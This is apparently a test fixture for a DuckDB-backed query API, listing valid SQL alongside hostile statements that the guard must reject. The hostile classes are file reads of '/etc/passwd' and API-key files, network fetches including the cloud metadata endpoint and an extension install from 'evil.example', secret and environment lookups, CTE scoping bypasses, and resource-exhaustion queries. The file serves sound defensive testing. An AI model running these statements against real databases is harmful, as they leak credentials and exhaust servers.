"""A corpus of hostile and valid SQL for `POST /api/v1/query`, by class.

Every HOSTILE statement must be answered with a 4xx and no data; every VALID one must
run. The tables are those of `batchlake demo` (the Chinook lake). The guard's unit tests
(`test_api_sql_guard.py`) check the allow-list alone; `tests/integration/
test_serve_sql_corpus.py` sends the whole corpus through the app and its query workers.
"""

from __future__ import annotations

HOSTILE: dict[str, list[str]] = {
    "ddl_dml": [
        "CREATE TABLE refined.x AS SELECT 1",
        "CREATE OR REPLACE TABLE refined.sales_by_day AS SELECT 1 AS year",
        "CREATE VIEW v AS SELECT * FROM refined.sales_by_day",
        "CREATE TEMP TABLE t AS SELECT * FROM trusted.invoices",
        "CREATE SCHEMA evil",
        "CREATE SEQUENCE s",
        "CREATE MACRO leak() AS TABLE SELECT * FROM duckdb_settings()",
        "CREATE FUNCTION f(x) AS x + 1",
        "CREATE TYPE mood AS ENUM ('a', 'b')",
        "CREATE INDEX i ON trusted.invoices (invoice_id)",
        "DROP TABLE refined.sales_by_day",
        "DROP SCHEMA refined CASCADE",
        "ALTER TABLE trusted.invoices RENAME TO gone",
        "INSERT INTO trusted.invoices SELECT * FROM trusted.invoices",
        "INSERT INTO refined.sales_by_month (year) VALUES (1)",
        "UPDATE trusted.customers SET email = 'x'",
        "DELETE FROM trusted.invoices WHERE true",
        "TRUNCATE trusted.invoice_lines",
        "WITH d AS (DELETE FROM trusted.invoices RETURNING *) SELECT * FROM d",
        "SELECT 1; DROP TABLE trusted.invoices",
        "SELECT * FROM trusted.invoices; SELECT * FROM duckdb_settings()",
        "BEGIN; SELECT 1; COMMIT",
        "PREPARE p AS SELECT * FROM trusted.invoices",
        "EXECUTE p",
        "CALL dbgen(sf = 1)",
    ],
    "files": [
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM read_csv_auto('.tmp/leak.csv')",
        "SELECT * FROM read_text('/etc/hostname')",
        "SELECT * FROM read_blob('.tmp/leak.csv')",
        "SELECT * FROM read_parquet('lake/warehouse/**/*.parquet')",
        "SELECT * FROM read_json_auto('.batchlake/api_keys.json')",
        "SELECT * FROM '.tmp/leak.csv'",
        'SELECT * FROM ".tmp/leak.csv"',
        'SELECT * FROM "/etc/passwd"',
        "FROM '.batchlake/metadata.sqlite'",
        "SELECT * FROM glob('**')",
        "SELECT * FROM sniff_csv('.tmp/leak.csv')",
        "SELECT * FROM parquet_schema('x.parquet')",
        "SELECT * FROM sqlite_scan('.batchlake/metadata.sqlite', 'runs')",
        "ATTACH '.batchlake/metadata.sqlite' AS m (TYPE sqlite)",
        "ATTACH ':memory:' AS scratch",
        "COPY trusted.customers TO 'out.csv'",
        "COPY (SELECT 1) TO '/tmp/pwned.parquet' (FORMAT parquet)",
        "EXPORT DATABASE 'dump'",
        "IMPORT DATABASE 'dump'",
        "SELECT * FROM iceberg_scan('lake/warehouse/refined/sales_by_day')",
        "SELECT * FROM delta_scan('somewhere')",
        "SELECT (SELECT count(*) FROM read_csv('/etc/passwd')) AS n",
        "WITH f AS (SELECT * FROM read_text('/etc/hostname')) SELECT * FROM f",
        "SELECT * FROM trusted.invoices WHERE EXISTS (SELECT 1 FROM glob('/root/*'))",
        "SELECT * FROM refined.sales_by_day UNION ALL SELECT * FROM read_csv('.tmp/leak.csv')",
    ],
    "network": [
        "SELECT * FROM read_parquet('https://example.com/x.parquet')",
        "SELECT * FROM read_csv('http://169.254.169.254/latest/meta-data/')",
        "SELECT * FROM 'https://example.com/data.csv'",
        "FROM 's3://bucket/key.parquet'",
        "SELECT * FROM read_json('gcs://bucket/x.json')",
        "INSTALL httpfs",
        "LOAD httpfs",
        "FORCE INSTALL httpfs FROM 'http://evil.example'",
        "SELECT * FROM postgres_scan('host=db user=x', 'public', 't')",
        "SELECT * FROM mysql_query('m', 'SELECT 1')",
        "ATTACH 'postgres://user@db/x' AS pg (TYPE postgres)",
        "CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 's')",
        "SELECT http_get('http://example.com')",
    ],
    "settings_and_catalog": [
        "SELECT * FROM duckdb_settings()",
        "SELECT * FROM duckdb_extensions()",
        "SELECT * FROM duckdb_databases()",
        "SELECT * FROM duckdb_secrets()",
        "SELECT * FROM duckdb_memory()",
        "SELECT * FROM duckdb_temporary_files()",
        "SELECT * FROM duckdb_tables",
        "SELECT * FROM duckdb_views",
        "SELECT * FROM pragma_database_list",
        "SELECT * FROM pragma_version()",
        "SELECT * FROM pragma_platform()",
        "SELECT * FROM pragma_table_info('trusted.invoices')",
        "SELECT * FROM sqlite_master",
        "SELECT * FROM pg_settings",
        "SELECT * FROM pg_catalog.pg_settings",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM system.main.duckdb_settings",
        "SELECT current_setting('allowed_directories')",
        "SELECT current_setting('temp_directory')",
        "SELECT getenv('HOME')",
        "SELECT getenv('BATCHLAKE_API_KEYS')",
        "SELECT version()",
        "SELECT current_database(), current_schema()",
        "SELECT * FROM which_secret('s3://b/k', 's3')",
        "PRAGMA database_list",
        "PRAGMA memory_limit = '100GB'",
        "SET memory_limit = '100GB'",
        "SET enable_external_access = true",
        "SET lock_configuration = false",
        "RESET temp_directory",
        "SET VARIABLE v = 1",
        "SHOW TABLES",
        "DESCRIBE trusted.invoices",
        "SUMMARIZE trusted.invoices",
        "EXPLAIN ANALYZE SELECT 1",
        "USE refined",
        "CHECKPOINT",
        "SELECT * FROM query('SELECT * FROM duckdb_settings()')",
        "SELECT * FROM query_table('duckdb_settings')",
        "SELECT json_execute_serialized_sql('{}')",
        "SELECT * FROM test_all_types()",
    ],
    "scoping": [
        "SELECT name, setting FROM (WITH pg_settings AS (SELECT 1) SELECT 1) t, pg_settings",
        "SELECT * FROM (WITH duckdb_tables AS (SELECT 1) SELECT 1) t, duckdb_tables",
        "SELECT * FROM (WITH duckdb_databases AS (SELECT 1) SELECT 1) t, duckdb_databases",
        "SELECT * FROM (WITH sqlite_master AS (SELECT 1) SELECT 1) t, sqlite_master",
        "SELECT * FROM (WITH duckdb_settings AS (SELECT 1) SELECT 1) t, duckdb_settings",
        'SELECT * FROM (WITH ".tmp/leak.csv" AS (SELECT 1) SELECT 1) t, ".tmp/leak.csv"',
        'SELECT * FROM (WITH "/etc/passwd" AS (SELECT 1) SELECT 1) t, "/etc/passwd"',
        "SELECT * FROM trusted.invoices WHERE invoice_id IN "
        "(WITH pg_settings AS (SELECT 1) SELECT 1) OR EXISTS (SELECT * FROM pg_settings)",
        "SELECT (WITH s AS (SELECT 1) SELECT count(*) FROM s), (SELECT count(*) FROM s)",
        "SELECT 1 UNION ALL (WITH sqlite_master AS (SELECT 1) SELECT * FROM sqlite_master) "
        "UNION ALL SELECT * FROM sqlite_master",
        "SELECT * FROM trusted.genres AS duckdb_tables, LATERAL (SELECT * FROM duckdb_tables)",
        "SELECT * FROM trusted.genres AS pg_settings JOIN pg_settings ON true",
        "SELECT * FROM (SELECT 1) AS pg_settings, LATERAL (SELECT count(*) FROM pg_settings)",
        "WITH RECURSIVE duckdb_databases AS (SELECT database_name FROM duckdb_databases "
        "UNION ALL SELECT 'z') SELECT * FROM duckdb_databases",
        "WITH RECURSIVE pg_settings AS (SELECT 'a' AS x UNION ALL SELECT name FROM pg_settings "
        "UNION ALL SELECT x FROM pg_settings WHERE false) SELECT * FROM pg_settings",
        "WITH duckdb_settings AS (SELECT * FROM duckdb_settings) SELECT * FROM duckdb_settings",
        "WITH a AS (SELECT * FROM pg_settings), pg_settings AS (SELECT 1) SELECT * FROM a",
        "WITH x AS (SELECT 1) SELECT * FROM main.x",
        "WITH pg_settings AS (SELECT 1) SELECT * FROM pg_catalog.pg_settings",
        "SELECT * FROM (WITH DUCKDB_VIEWS AS (SELECT 1) SELECT 1) t, duckdb_views",
        "SELECT * FROM trusted.invoices t WHERE t.customer_id IN "
        "(SELECT x FROM (WITH q AS (SELECT 1 AS x) SELECT * FROM q) s, q)",
    ],
    "resource_abuse": [
        "SELECT length(repeat('x', 2000000000))",
        "SELECT len(list_resize([1], 1000000000))",
        "SELECT length(repeat(repeat('x', 100000), 100000))",
        "SELECT count(*) FROM trusted.tracks a, trusted.tracks b, trusted.tracks c",
        "SELECT count(*) FROM trusted.tracks a, trusted.tracks b, trusted.tracks c "
        "WHERE a.milliseconds + b.milliseconds > c.milliseconds",
        "SELECT string_agg(a.name || b.name, ',') FROM trusted.tracks a, trusted.tracks b",
        "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        "WITH RECURSIVE r AS (SELECT [1] AS l UNION ALL SELECT l || l FROM r) "
        "SELECT count(*) FROM r",
        "SELECT count(*) FROM range(1000000000000)",
        "SELECT * FROM generate_series(1, 1000000000000)",
        "SELECT list_sum(list_resize([1], 500000000, 1)) FROM trusted.genres",
        "SELECT a.*, b.*, c.* FROM trusted.playlist_tracks a, trusted.playlist_tracks b, "
        "trusted.playlist_tracks c ORDER BY random()",
    ],
    "malformed": [
        "",
        "   ",
        "-- only a comment",
        "/* unterminated",
        "SELEKT 1",
        "SELECT 'unterminated",
        "SELECT " + "(" * 200 + "1" + ")" * 200,
        "SELECT " + "[" * 300 + "1" + "]" * 300,
        "SELECT \ud800",
        "SELECT '\udfff' AS lone",
        "SELECT 1 -- " + "x" * 1_000_000,
        "SELECT " + ", ".join(["1"] * 30_000),
        "SELECT \x00",
        "SELECT * FROM trusted.genres\x00; SELECT * FROM duckdb_settings()",
        "VALUES (1)",
        ";;;",
    ],
}

VALID: list[str] = [
    "SELECT 1 AS one",
    "SELECT count(*) AS n FROM trusted.invoices",
    "SELECT * FROM refined.sales_by_day ORDER BY sale_date LIMIT 5",
    "FROM refined.sales_by_month SELECT year, sum(total_amount) AS total GROUP BY ALL",
    "WITH m AS (SELECT * FROM refined.sales_by_month) SELECT month FROM m WHERE rank <= 3",
    "WITH a AS (SELECT customer_id FROM trusted.invoices), b AS (SELECT * FROM a) "
    "SELECT count(*) FROM b",
    'WITH "Big" AS (SELECT * FROM trusted.invoices WHERE total > 10) SELECT count(*) FROM big',
    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 10) "
    "SELECT sum(n) FROM r",
    "SELECT month, total_amount, rank() OVER (ORDER BY total_amount DESC) AS r "
    "FROM refined.sales_by_month",
    "SELECT sale_date, avg(total_amount) OVER (ORDER BY sale_date ROWS BETWEEN 6 PRECEDING "
    "AND CURRENT ROW) AS week FROM refined.sales_by_day",
    "SELECT month, artist_name FROM refined.top_artists_by_month QUALIFY row_number() "
    "OVER (PARTITION BY month ORDER BY rank, artist_name) = 1",
    "SELECT c.country, count(*) AS n FROM trusted.invoices i JOIN trusted.customers c "
    "USING (customer_id) GROUP BY 1 ORDER BY 2 DESC",
    "SELECT g.name, sum(l.unit_price * l.quantity) AS revenue FROM trusted.invoice_lines l "
    "JOIN trusted.tracks t USING (track_id) JOIN trusted.genres g ON g.genre_id = t.genre_id "
    "GROUP BY 1 ORDER BY 2 DESC LIMIT 5",
    "SELECT count(*) FROM raw.chinook.invoice r JOIN trusted.invoices t USING (invoice_id)",
    "SELECT * FROM (SELECT year, max(total_amount) AS best FROM refined.sales_by_day "
    "GROUP BY year) s WHERE best > (SELECT avg(total_amount) FROM refined.sales_by_day)",
    "SELECT * FROM trusted.customers WHERE customer_id IN (SELECT customer_id FROM "
    "(SELECT customer_id, sum(total) AS t FROM trusted.invoices GROUP BY 1) x WHERE t > 40)",
    "SELECT (SELECT count(*) FROM trusted.genres) AS genres, "
    "(SELECT count(*) FROM trusted.artists) AS artists",
    "SELECT a.name, (SELECT count(*) FROM trusted.albums al WHERE al.artist_id = a.artist_id) "
    "AS albums FROM trusted.artists a ORDER BY 2 DESC LIMIT 3",
    "SELECT year FROM refined.sales_by_day INTERSECT SELECT year FROM refined.sales_by_month",
    "SELECT year FROM refined.sales_by_day EXCEPT SELECT 1999",
    "SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS v(n, s)",
    "SELECT unnest([1, 2, 3]) AS n",
    "SELECT strftime(DATE '2024-01-31', '%Y-%m') AS m, dayname(DATE '2024-01-01') AS d",
    "SELECT i.customer_id, l.x FROM trusted.invoices i, LATERAL (SELECT i.total * 2 AS x) l "
    "LIMIT 3",
    "SELECT year, quarter, sum(total_amount) AS total FROM refined.sales_by_day "
    "GROUP BY ROLLUP (year, quarter) ORDER BY 1, 2",
    "SELECT * FROM refined.segment_profiles ORDER BY segment",
    "SELECT count(*) AS duckdb_tables FROM trusted.genres AS pg_settings",
]


def hostile() -> list[tuple[str, str]]:
    """Every hostile statement with its class."""
    return [(kind, sql) for kind, statements in HOSTILE.items() for sql in statements]
